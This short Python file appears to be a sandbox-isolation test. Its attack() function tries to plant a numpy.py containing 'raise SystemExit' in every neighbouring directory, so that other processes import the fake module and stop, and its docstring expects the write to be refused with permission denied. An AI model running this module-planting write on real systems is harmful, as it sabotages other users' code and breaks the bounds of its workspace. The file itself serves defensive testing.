"""Leaves a module where a neighbour in the same sandbox will find it.

Refused: Permission denied
"""

import os


def attack(bait):
    for name in os.listdir(".."):
        with open(os.path.join("..", name, "numpy.py"), "w") as f:
            f.write("raise SystemExit")
    return os.listdir("..")
